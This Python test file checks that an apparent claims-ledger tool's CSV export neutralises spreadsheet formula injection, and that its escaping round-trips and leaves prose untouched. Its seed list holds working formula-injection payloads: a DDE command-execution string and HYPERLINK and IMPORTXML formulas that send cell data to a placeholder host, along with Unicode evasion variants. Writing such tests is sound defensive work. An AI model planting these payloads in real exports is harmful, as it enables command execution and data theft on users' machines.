from __future__ import annotations

import csv
import io
import random
import re
import unicodedata
from collections.abc import Iterator
from datetime import date
from typing import Any, cast

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from counterclaim.core.span import Span
from counterclaim.export.csv_table import original, read_csv, safe, write_csv
from counterclaim.export.job import Job
from counterclaim.export.tables import TABLES, Column, Table
from counterclaim.ledger.streams.source import Source

SEEDS = (
    "=1+1", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "−1",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.invalid?"&A1,"click")', "@SUM(1+9)*cmd|' /C calc'!A0", "'=1+1",
    "''@x", "shells\n=1+1", "shells\r\n+1", "a;=1+1", 'a","=1+1', '"=1+1"', "a\t@x", " =1+1", "\u00a0=1+1",
    "\u200b=1+1", "\ufeff@x", "\u3000－1", "\x0b=1", "\x0c=1", "x\u2028=1", "x\x85-1", ", '-1", "﹦1", "⁼1", "=", "'",
    '"', ";", "-", "denied; -5", "%0A=1+1", "=IMPORTXML(CONCAT(\"http://x.invalid\",A1),\"//a\")", "+\t-", "'tis", "",
)  # fmt: skip
BLANKS = " \u00a0\u200b\u3000\ufeff\u2060"


def payloads(count: int = 500) -> list[str]:
    """The seeds, and seeds put together at random."""
    choice = random.Random(7)
    found = list(SEEDS)
    while len(found) < count:
        found.append("".join(choice.choice((*SEEDS, *"\n\r\t;,\"' word")) for _ in range(choice.randrange(1, 4))))
    return found


def hostile_line(table: Table, payload: str) -> Any:
    """A line whose every text is the payload."""
    values: dict[str, Any] = {
        "text": payload, "texts": (payload, payload), "whole": 7, "share": 0.5, "flag": True, "day": date(2019, 5, 6),
        "spans": (Span(0, 3), Span(4, 9, "title")),
    }  # fmt: skip
    return table.line(**{column.name: values[column.kind] for column in table.columns})


def written(table: Table, lines: list[Any]) -> str:
    shown = Table(table.name, table.line, lambda _: iter(lines), table.columns)
    file = io.BytesIO()
    assert write_csv(Job(cast("Source", None)), shown, file) == len(lines)
    return file.getvalue().decode("utf-8")


def is_formula(cell: str) -> bool:
    """What a careless program would take for one, after it stripped blanks and folded forms."""
    folded = unicodedata.normalize("NFKC", cell.lstrip(BLANKS)).replace("−", "-")
    return folded.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\x0b", "\x0c"))


@pytest.mark.parametrize("name", TABLES)
def test_no_payload_in_any_text_column_is_a_formula_to_a_spreadsheet(name: str) -> None:
    table, hostile = TABLES[name], payloads()
    text = written(table, [hostile_line(table, payload) for payload in hostile])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 501 and {len(row) for row in rows} == {len(table.columns)}
    places = [at for at, column in enumerate(table.columns) if column.kind in ("text", "texts")]
    assert places
    assert not [row[at] for row in rows for at in places if is_formula(row[at])]
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("export")
    for row in rows:
        # XML knows no control characters: a spreadsheet that reads the file drops them.
        sheet.append([re.sub(r"[\x0b\x0c]", "", row[at]) for at in places])
    file = io.BytesIO()
    book.save(file)
    again = openpyxl.load_workbook(io.BytesIO(file.getvalue()), read_only=True)["export"]
    assert [cell.value for row in again.iter_rows() for cell in row if cell.data_type == "f"] == []


@pytest.mark.parametrize("name", TABLES)
def test_every_text_comes_back_exactly(name: str) -> None:
    table, hostile = TABLES[name], payloads()
    text = written(table, [hostile_line(table, payload) for payload in hostile])
    for row, payload in zip(read_csv(io.StringIO(text, newline="")), hostile, strict=True):
        for column in table.columns:
            if column.kind == "text":
                assert row[column.name] == payload
            elif column.kind == "texts":
                assert row[column.name] == f"{payload}; {payload}"


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_nor_to_one_that_splits_elsewhere_or_forgets_quotation_marks(delimiter: str) -> None:
    table = TABLES["judgements"]
    text = written(table, [hostile_line(table, payload) for payload in payloads()])
    cells = (cell.strip('"') for line in re.split(r"[\r\n\x85\u2028]+", text) for cell in line.split(delimiter))
    assert [cell for cell in cells if is_formula(cell) and cell.lstrip(BLANKS)[:1] not in "\x0b\x0c"] == []


@given(st.text(st.sampled_from("'=+-@\t\r\n ;,\"a＝\u200b−\u2028")))
def test_what_is_made_safe_can_always_be_undone(text: str) -> None:
    assert original(safe(text)) == text
    assert not is_formula(safe(text))


@pytest.mark.parametrize(
    "prose",
    [
        "Two-thirds of the shells",
        "the minister’s aide",
        "a + b",
        "mail a@b.example",
        "‘never’, he said",
        "’tis so",
        "5-6",
    ],
)
def test_prose_stays_as_it_is(prose: str) -> None:
    assert safe(prose) == prose


def test_a_table_is_what_the_ledger_holds(job: Job) -> None:
    rows = {name: list(_read(job, name)) for name in TABLES}
    assert {name: len(each) for name, each in rows.items()} == {
        "documents": 4, "statements": 9, "events": 3, "transfers": 3, "items": 3, "claims": 4, "positions": 9,
        "steps": 8, "links": 1, "copies": 0, "judgements": 3, "runs": 5, "refusals": 1, "checkpoints": 5,
    }  # fmt: skip
    steps = [(row["party"], row["stance"], row["relation"]) for row in rows["steps"] if row["party"] == "MLT"][:2]
    assert steps == [("MLT", "denies", "denies"), ("MLT", "acknowledges", "revises")]
    (corrected,) = (row for row in rows["statements"] if row["corrected_by"])
    assert corrected["speaker"] == "Carla B. Zerafa" and corrected["drawn"] == '{"speaker":"Carla Zerafa"}'
    assert not any(row["party"] == "DZA" and row["position"] == "declines" for row in rows["statements"])
    assert [row["verdict"] for row in rows["judgements"]] == ["same", "correct", "reject"]
    assert {row["checkpoint"] for each in rows.values() for row in each} == {job.source.checkpoint} != {""}
    texts = {row["id"]: row["text"] for row in rows["documents"]}
    for row in rows["statements"]:
        pieces = [place.removeprefix("text:").split("-") for place in row["content"].split("; ")]
        assert row["words"] == " … ".join(texts[row["document"]][int(start) : int(end)] for start, end in pieces)


def test_columns_tell_their_meaning() -> None:
    columns: list[Column] = [column for table in TABLES.values() for column in table.columns]
    assert all(column.meaning for column in columns)
    assert all(
        [column.name for column in table.columns][-3:] == ["record", "run", "checkpoint"] for table in TABLES.values()
    )


def _read(job: Job, name: str) -> Iterator[dict[str, str]]:
    file = io.BytesIO()
    write_csv(job, TABLES[name], file)
    yield from read_csv(io.StringIO(file.getvalue().decode("utf-8"), newline=""))
